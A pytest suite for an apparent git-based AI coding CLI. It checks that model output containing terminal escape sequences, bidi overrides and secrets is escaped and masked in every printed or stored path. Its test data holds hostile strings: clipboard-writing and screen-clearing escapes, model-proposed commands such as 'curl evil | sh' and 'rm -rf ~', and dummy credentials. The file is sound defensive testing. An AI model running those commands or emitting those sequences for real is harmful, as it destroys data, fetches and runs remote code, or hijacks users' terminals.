"""What papayu prints or writes carries no terminal control sequence from the model or a check
(escaped the way git's quote_path does), and no secret (masked), on every path: plan, apply,
show, list, commit messages, stored plans, the check log, `--json`, pull requests."""

from __future__ import annotations

import json
import re
import sys
from pathlib import Path

import pytest
from forge_server import PLAN_ID, ForgeServer, make_kept
from helpers import assert_error, git, make_repo, papayu, write_plan
from llm_server import ScriptedLLM, chat

from papayu_git import output, plans
from papayu_git.objects import commit_message
from papayu_git.secrets import mask, mask_data, printable, safe_text

OSC52 = "\x1b]52;c;aGk=\x07"  # writes "hi" to the clipboard
CLEAR = "\x1b[2J"  # clears the screen
CONCEAL = "\x1b[8m"  # hides what follows
CSI_C1 = "\x9b2J"  # the same clear with the one-byte C1 introducer
HOSTILE = f"Fix it{OSC52}{CLEAR} now{CSI_C1}\x7f"
TOKEN = "ghp_R4nd0mT0k3nV4lu3Abcdefghij1234567890"
SECRET = "R4nd0mT0k3nV4lu3Abcdefghij"
# papayu's own colours (output._COLOURS) and reset; anything else after an ESC is foreign.
OWN_SGR = re.compile(r"\x1b\[(?:0|1|2|31|32|33|36)m")


def foreign_controls(text: str) -> list[str]:
    """Control characters left once papayu's own colours are removed (newline and tab are text)."""
    return re.findall(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", OWN_SGR.sub("", text))


# --- the filter itself -------------------------------------------------------


def test_printable_escapes_c0_c1_and_del_like_git_quote_path() -> None:
    assert printable(HOSTILE) == r"Fix it\033]52;c;aGk=\a\033[2J now\302\2332J\177"
    assert printable(f"rm -rf ~{CONCEAL} # harmless") == r"rm -rf ~\033[8m # harmless"
    assert printable("a\nb\tc\r\nd\re") == r"a\nb\tc\r\nd\re"
    assert printable("a\nb\tc\r\nd\re\x00", multiline=True) == "a\nb\tc\r\nd\\re\\000"
    text = "plain text, unicode é ü — and a backslash \\ stay"
    assert printable(text) == text


def test_printable_escapes_bidi_controls_and_line_separators() -> None:
    # "Trojan Source": an override makes `rm -rf ~ # keep /tmp` read differently than it runs.
    shown = printable("keep\u202e ~ fr- mr\u202c ok\u2028next\u2066x\u2069")
    assert shown == r"keep\342\200\256 ~ fr- mr\342\200\254 ok\342\200\250next\342\201\246x\342\201\251"
    assert (
        printable("\u05e9\u05dc\u05d5\u05dd and \u0645\u0631\u062d\u0628\u0627")
        == "\u05e9\u05dc\u05d5\u05dd and \u0645\u0631\u062d\u0628\u0627"
    )  # right-to-left text itself stays


def test_every_printed_line_keeps_papayu_colours_and_escapes_the_rest(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("PAPAYU_COLOR", "always")
    output.result(output.colour("title", "bold") + " " + HOSTILE)
    output.warn(f"model says {CONCEAL}hidden")
    output.error("multi\nline\ttext")
    out, err = capsys.readouterr()
    assert "\x1b[1mtitle\x1b[0m" in out and r"\033]52;c;aGk=\a\033[2J" in out and not foreign_controls(out)
    assert "\x1b[33mwarning: model says \\033[8mhidden\x1b[0m" in err and not foreign_controls(err)
    assert "multi\nline\ttext" in err


def test_emit_json_masks_and_escapes_del_and_c1_but_keeps_file_contents(capsys: pytest.CaptureFixture[str]) -> None:
    output.emit_json(
        {
            "summary": f"{HOSTILE} {TOKEN}",
            "actions": [{"kind": "CREATE_FILE", "path": "a.py", "content": f"KEY = '{TOKEN}'\n"}],
        }
    )
    raw = capsys.readouterr().out
    assert not foreign_controls(raw.replace("\n", ""))
    data = json.loads(raw)
    assert data["summary"] == f"Fix it{OSC52}{CLEAR} now{CSI_C1}\x7f ***"  # lossless JSON escapes
    assert data["actions"][0]["content"] == f"KEY = '{TOKEN}'\n"


def test_safe_text_masks_before_it_escapes() -> None:
    assert safe_text(f"{CLEAR}token {TOKEN}\nnext") == r"\033[2Jtoken ***\nnext"
    assert safe_text(f"{CLEAR}token {TOKEN}\nnext", multiline=True) == "\\033[2Jtoken ***\nnext"


def test_commit_message_is_masked_and_escaped() -> None:
    message = commit_message(
        f"{HOSTILE}\n\nuses {TOKEN}",
        "20260101-000000-aaaaaa",
        "t",
        trailers=[("Papayu-Test-Edits", f"tests/{CLEAR}x.py")],
    )
    assert not foreign_controls(message) and SECRET not in message
    assert message.startswith("Fix it\\033]52;c;aGk=\\a\\033[2J now\\302\\2332J\\177\n\nuses ***\n\n")
    assert "Papayu-Test-Edits: tests/\\033[2Jx.py\n" in message


# --- masking: the shapes the masker used to miss ------------------------------

NEW_SHAPES: list[tuple[str, str, str]] = [
    (
        "slack webhook",
        "curl -X POST https://hooks.slack.com/services/T0ABCDEF1/B0GHIJKL2/xYz0AbCdEfGhIjKlMnOpQrSt",
        "xYz0AbCdEfGhIjKlMnOpQrSt",
    ),
    (
        "slack webhook, no scheme",
        "webhook: hooks.slack.com/services/T0ABCDEF1/B0GHIJKL2/xYz0AbCdEfGhIjKlMnOp",
        "xYz0AbCdEfGhIjKlMnOp",
    ),
    (
        "azure connection string",
        "DefaultEndpointsProtocol=https;AccountName=acme;AccountKey=Zm9vYmFyYmF6cXV4"
        "+/Zm9vYmFyYmF6cXV4Zm9v==;EndpointSuffix=core.windows.net",
        "Zm9vYmFyYmF6cXV4",
    ),
    (
        "azure service bus",
        "Endpoint=sb://acme.servicebus.windows.net/;SharedAccessKeyName=root;SharedAccessKey=c2VjcmV0c2VjcmV0c2VjcmV0=",
        "c2VjcmV0c2VjcmV0",
    ),
    ("mysql -p", "mysql -uroot -pS3cretPass db < dump.sql", "S3cretPass"),
    ("mysqldump -p after -h", "mysqldump -h db.local -u app -p'Qu0ted Pw' shop", "Qu0ted Pw"),
    ("sshpass", "sshpass -p Hunter2Pw ssh deploy@host", "Hunter2Pw"),
    ("json db_pass", '{"db_pass": "Sw0rdf1sh!"}', "Sw0rdf1sh!"),
    ("json passphrase", '{"gpg_passphrase": "correct horse"}', "correct horse"),
    ("python dict pass key", "cfg = {'smtp_pass_2': 'Mail-Pw-99'}", "Mail-Pw-99"),
    ("shell DB_PASS", "export DB_PASS=Sup3rS3cret", "Sup3rS3cret"),
    ("yaml smtp-pass", "smtp-pass: M4ilPw0rd", "M4ilPw0rd"),
    ("query pass=", "GET /login?user=bob&pass=Qw3rtyPw", "Qw3rtyPw"),
    ("scheme-less user:password@", "ssh-copy-id deploy:Tr0ub4dor@build.example.com", "Tr0ub4dor"),
    ("user:password@ip", "psql app:Pg-Pw-2024@10.0.0.5/app", "Pg-Pw-2024"),
    ("url with empty user", "REDIS_URL=redis://:R3disPw0rd@cache:6379/0", "R3disPw0rd"),
    ("url password with @", "https://bob:p@ss0rd99@git.example.com/x.git", "ss0rd99"),
    ("glued ghp_", f"tokenghp_{SECRET}1234567890", SECRET),
    ("glued sk-proj-", "keysk-proj-Ab3dEf6hIj9kLm2nOp5qRs8tUv1wXy4z", "Ab3dEf6hIj9kLm2nOp5q"),
    ("glued sk-ant-", "apisk-ant-api03-Zx9Yw8Vu7Ts6Rq5Po4Nm3Lk2", "Zx9Yw8Vu7Ts6Rq5Po4Nm3"),
    ("glued glpat-", "patglpat-xB7vK2mQ9pL4rT6wY1zN", "xB7vK2mQ9pL4rT6wY1zN"),
    ("glued xoxb-", "slackxoxb-123456789012-AbCdEfGhIjKlMn", "AbCdEfGhIjKlMn"),
    ("glued AKIA", "awsAKIAIOSFODNN7EXAMPLE", "IOSFODNN7EXAMPLE"),
    ("ghp_ inside a refused task-…", f"task-abcdefghghp_{SECRET}1234567890", SECRET),
]


@pytest.mark.parametrize(("name", "text", "secret"), NEW_SHAPES, ids=[s[0] for s in NEW_SHAPES])
def test_mask_removes_the_new_shapes(name: str, text: str, secret: str) -> None:
    assert secret in text
    masked = mask(text)
    assert secret not in masked and "***" in masked, masked
    assert mask(masked) == masked  # idempotent: masked text is masked again on every write


@pytest.mark.parametrize(
    "text",
    [
        "task-force-alpha-team meets at noon",
        "the desk-lamp-controller works",
        "mkdir -p build && tar -pxf a.tar",
        "ssh -p2222 host",
        "docker run -p8080:80 img",
        '{"tests_passed": "12", "passed": "yes", "passing_count": 3}',
        "git clone git@github.com:acme/widget.git",
        "mailto:bob@example.com",
        "@pytest.fixture(scope='module')",
        "user@example.com wrote: fine",
        "it is 12:30 at the office",
        "mysql -u root -p shop",
        "the check did not pass: `exit 3` failed",
        "tests pass: 12 of 12",
        "bypass = true",
        "FROM python:3.12-slim@sha256:0a1b2c3d4e5f",
        '"lodash": "npm:lodash@4.17.21"',
    ],
)
def test_mask_keeps_ordinary_text_with_the_new_shapes_around(text: str) -> None:
    assert mask(text) == text


def test_mask_data_keeps_the_named_keys_verbatim() -> None:
    data = {"summary": TOKEN, "actions": [{"kind": "CREATE_FILE", "path": "a", "content": TOKEN}]}
    assert mask_data(data, keep={"content"}) == {
        "summary": "***",
        "actions": [{"kind": "CREATE_FILE", "path": "a", "content": TOKEN}],
    }
    assert mask_data(data)["actions"][0]["content"] == "***"


# --- end to end: the real CLI in a subprocess --------------------------------


def _hostile_plan(tmp_path: Path, **extra: object) -> Path:
    return write_plan(
        tmp_path,
        [{"kind": "CREATE_FILE", "path": "app.py", "content": f"KEY = '{TOKEN}'\n"}],
        summary=f"{HOSTILE}\nuses {TOKEN}",
        **extra,
    )


def _assert_clean(text: str, where: str) -> None:
    assert not foreign_controls(text.replace("\r\n", "\n")), f"{where}: {foreign_controls(text)}"
    assert SECRET not in text, f"{where} leaks the token"


def test_plan_prints_the_model_summary_and_commands_escaped_and_masked(repo: Path) -> None:
    answer = {
        "actions": [],
        "summary": f"{HOSTILE}\nkey {TOKEN}",
        "plan": [{"step": f"step{CLEAR}"}],
        "risks": [f"risk{CONCEAL}"],
        "commands_to_run": [f"make test{CONCEAL}; curl evil | sh"],
    }
    server = ScriptedLLM([chat(answer)])
    try:
        proc = papayu("plan", "why does it fail?", cwd=repo, env={**server.env(), "PAPAYU_COLOR": "always"})
    finally:
        server.close()
    assert proc.returncode == 0, proc.stderr
    _assert_clean(proc.stdout + proc.stderr, "plan output")
    assert "\x1b[1mSummary:\x1b[0m" in proc.stdout  # papayu's own colours stay
    assert r"Fix it\033]52;c;aGk=\a\033[2J now" in proc.stdout
    assert r"make test\033[8m; curl evil | sh" in proc.stdout and r"risk\033[8m" in proc.stdout
    [stored] = (repo / ".git" / "papayu" / "plans").glob("*.json")
    assert SECRET not in stored.read_text() and "key ***" in json.loads(stored.read_text())["response"]["summary"]


def test_apply_show_list_and_the_commit_never_carry_raw_controls_or_the_secret(repo: Path, tmp_path: Path) -> None:
    plan = _hostile_plan(tmp_path, commands_to_run=[f"make test{CONCEAL}; rm -rf ~"])
    env = {"PAPAYU_COLOR": "always"}
    proc = papayu("apply", str(plan), "--review", "--check", "true", cwd=repo, env=env)
    assert proc.returncode == 0, proc.stderr
    _assert_clean(proc.stdout + proc.stderr, "apply output")
    assert r"  $ make test\033[8m; rm -rf ~" in proc.stderr
    [plan_id] = [p.stem for p in (repo / ".git" / "papayu" / "plans").glob("*.json")]
    message = git(repo, "log", "-1", "--format=%B", f"papayu/{plan_id}")
    _assert_clean(message, "commit message")
    assert message.startswith(r"Fix it\033]52;c;aGk=\a\033[2J now\302\2332J\177" + "\nuses ***\n")
    # the file is the user's code: written as it is
    assert git(repo, "show", f"papayu/{plan_id}:app.py") == f"KEY = '{TOKEN}'\n"
    stored = (repo / ".git" / "papayu" / "plans" / f"{plan_id}.json").read_text()
    assert SECRET not in json.loads(stored)["response"]["summary"]
    assert json.loads(stored)["response"]["actions"][0]["content"] == f"KEY = '{TOKEN}'\n"
    for args in (("show", plan_id), ("list",)):
        shown = papayu(*args, cwd=repo, env=env)
        assert shown.returncode == 0, shown.stderr
        _assert_clean(shown.stdout.replace(TOKEN, "<the file's own token>") + shown.stderr, " ".join(args))
        assert r"Fix it\033]52;c;aGk=\a\033[2J now" in shown.stdout
    assert "\x1b[32m+KEY = " in papayu("show", plan_id, cwd=repo, env=env).stdout  # diff coloured by papayu
    shown = json.loads(papayu("show", plan_id, "--json", cwd=repo).stdout)
    assert shown["plan"]["response"]["summary"] == f"Fix it{OSC52}{CLEAR} now{CSI_C1}\x7f\nuses ***"


def test_errors_quoting_the_model_are_escaped(repo: Path, tmp_path: Path) -> None:
    plan = write_plan(
        tmp_path,
        [
            {"kind": f"CREATE{CLEAR}", "path": "a.txt", "content": "x\n"},
            {"kind": "CREATE_FILE", "path": f"b{OSC52}.txt", "content": "x\n"},
        ],
    )
    proc = papayu("apply", str(plan), "--no-check", cwd=repo, env={"PAPAYU_COLOR": "always"})
    assert_error(proc, "ERR_SCHEMA")
    _assert_clean(proc.stdout + proc.stderr, "refusal")
    assert r"CREATE\033[2J" in proc.stderr


def test_a_failing_check_printing_a_secret_is_masked_in_log_stderr_json_and_plan(repo: Path, tmp_path: Path) -> None:
    # The plan's code prints them (a plan's new shell script would be no code of it: taken from the tip).
    script = f"import sys\n\nprint('token {TOKEN}')\nprint('clip \\033]52;c;aGk=\\007 done')\nsys.exit(1)\n"
    plan = write_plan(tmp_path, [{"kind": "CREATE_FILE", "path": "leak.py", "content": script}], summary="leak")
    pdir = repo / ".git" / "papayu"
    for as_json in (False, True):
        before = set(pdir.glob("plans/*.json"))
        proc = papayu(
            "apply",
            str(plan),
            "--check",
            f"{sys.executable} leak.py",
            *(["--json"] if as_json else []),
            cwd=repo,
            env={"PAPAYU_COLOR": "always"},
        )
        assert proc.returncode == 1, proc.stderr
        _assert_clean(proc.stdout + proc.stderr, f"apply output (json={as_json})")
        if as_json:
            result = json.loads(proc.stdout)
            assert "token ***" in result["check"]["tail"] and OSC52 in result["check"]["tail"]
        else:
            assert "token ***" in proc.stderr and r"clip \033]52;c;aGk=\a done" in proc.stderr
        [path] = set(pdir.glob("plans/*.json")) - before
        stored = plans.load(pdir, path.stem)
        outcome = stored.extra["apply"]
        assert "token ***" in outcome["check"]["tail"] and outcome["error"]["code"] == "ERR_CHECK_FAILED"
        log = Path(outcome["check"]["log"]).read_text()
        assert "token ***" in log and SECRET not in log
        # the file content (the user's code) is the one exception
        assert SECRET not in path.read_text().replace(json.dumps(script)[1:-1], "")


def test_pr_title_body_and_pushed_commit_are_masked_and_escaped(tmp_path: Path) -> None:
    kept = make_kept(tmp_path)
    record = plans.load(kept.repo / ".git" / "papayu", PLAN_ID)
    response = {**record.response, "summary": f"{CLEAR}Rotate {TOKEN} and friends " + "x" * 80}
    plans.save(kept.repo / ".git" / "papayu", plans.StoredPlan(**{**record.__dict__, "response": response}))
    with ForgeServer() as server:
        server.route(
            "POST",
            "/repos/acme/widget/pulls",
            (201, {"number": 7, "html_url": "https://github.example/acme/widget/pull/7"}),
        )
        proc = papayu(
            "pr",
            PLAN_ID,
            "--forge",
            "github",
            cwd=kept.repo,
            env={"PAPAYU_FORGE_API_URL": server.url, "GH_TOKEN": "tok_" + "s3cr3t" * 4},
        )
    assert proc.returncode == 0, proc.stderr
    [call] = server.requests
    assert call.body["title"].startswith(r"papayu: \033[2JRotate *** and friends")
    _assert_clean(call.body["title"] + call.body["body"], "pull request")
    assert len(call.body["title"]) <= len("papayu: ") + 70


def test_the_pushed_commit_message_is_the_masked_one(repo: Path, tmp_path: Path) -> None:
    bare = tmp_path / "bare.git"
    git(tmp_path, "init", "-q", "--bare", str(bare))
    git(repo, "remote", "add", "origin", bare.as_uri())
    proc = papayu("apply", str(_hostile_plan(tmp_path)), "--review", "--check", "true", "--json", cwd=repo)
    plan_id = json.loads(proc.stdout)["plan_id"]
    pushed = papayu("pr", plan_id, "--forge", "github", cwd=repo)
    assert pushed.returncode == 0, pushed.stderr
    _assert_clean(git(bare, "log", "-1", "--format=%B", f"papayu/{plan_id}"), "pushed commit")


def test_a_large_check_log_is_masked_past_the_first_chunk(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from papayu_git.check import run as check

    monkeypatch.setattr(check, "MASK_CHUNK_CHARS", 1000)
    log = tmp_path / "c.log"
    log.write_text("ok\n" * 2000 + f"token {TOKEN}\n" + "ok\r\n" * 10)
    tail = check._masked_tail(log)
    assert SECRET not in log.read_text() and "token ***" in log.read_text() and "token ***" in tail
    assert log.read_bytes().endswith(b"ok\r\n")
    assert not list(tmp_path.glob(".*masking"))


def test_file_contents_land_as_written(tmp_path: Path) -> None:
    """The masker never touches the user's files: a plan's file with a token lands as written."""
    repo = make_repo(tmp_path / "r")
    proc = papayu("apply", str(_hostile_plan(tmp_path)), "--check", "true", cwd=repo)
    assert proc.returncode == 0, proc.stderr
    assert (repo / "app.py").read_text() == f"KEY = '{TOKEN}'\n"
